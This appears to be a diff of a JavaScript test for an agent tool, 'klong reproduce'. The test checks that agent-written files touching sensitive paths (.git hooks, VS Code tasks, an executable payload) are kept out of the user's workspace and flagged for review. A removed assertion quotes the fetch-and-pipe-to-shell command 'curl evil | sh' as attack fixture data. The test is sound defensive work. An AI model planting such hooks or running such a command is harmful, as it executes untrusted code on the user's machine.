@@ -61,7 +61,10 @@ describe('klong reproduce: sensitive paths are never auto-accepted', { skip }, (
     // The ordinary files are applied; reproduce.sh at the root is the one executable the agent may write.
     assert.equal(readFileSync(join(s.workspace, ORDINARY), 'utf8'), 'print("hello", 42)\n');
     assert.equal(readFileSync(join(s.workspace, 'reproduce.sh'), 'utf8'), 'python3 hello.py\n');
-    const sensitive = [...Object.keys(ATTACK), HOOK, TOOL];
+    const sensitive = [...Object.keys(ATTACK), TOOL];
+    // `.git` in any letter case never leaves the container: not applied, not proposed, not in the patch.
+    assert.equal(existsSync(join(s.workspace, HOOK)), false);
+    assert.doesNotMatch(r.stderr, /added\s+\.Git\//);
     for (const p of sensitive) {
       assert.equal(existsSync(join(s.workspace, p)), false, `${p} must not reach the workspace`);
       // Each one is named, with its reason, in the list of edits left for the user.
@@ -69,10 +72,7 @@ describe('klong reproduce: sensitive paths are never auto-accepted', { skip }, (
     }
     assert.equal(existsSync(join(s.workspace, '.git')), false);
     assert.equal(existsSync(join(s.workspace, PAYLOAD)), false);
-    assert.match(
-      r.stderr,
-      /added\s+tools\/payload \(binary or large: not in the patch; the container keeps it\) {2}SENSITIVE: made executable/,
-    );
+    assert.match(r.stderr, /added\s+tools\/payload \(binary or large\) {2}SENSITIVE: made executable/);
     assert.match(r.stderr, new RegExp(`${sensitive.length + 1} of them touch what runs on your machine`));
     // Said during the run, once per file, as it happened.
     assert.match(r.stderr, /warning: \.vscode\/tasks\.json was not applied: VS Code config/);
@@ -80,7 +80,8 @@ describe('klong reproduce: sensitive paths are never auto-accepted', { skip }, (
 
     const patch = readFileSync(join(s.stateDir, s.sessionId, 'proposals.patch'), 'utf8');
     for (const p of sensitive) assert.ok(patch.includes(`+++ b/${p}`), `${p} is in the patch`);
-    assert.ok(patch.includes('curl evil | sh'));
+    assert.ok(!patch.includes('.Git/hooks'), 'the .Git hook is not in the patch');
+    assert.ok(patch.includes('b/tools/payload'), 'git writes the binary into the patch too');
     assert.ok(!patch.includes(`b/${ORDINARY}`), 'what was applied is not in the patch');
 
     // The session log carries the reason with each proposal (the progress view shows it).
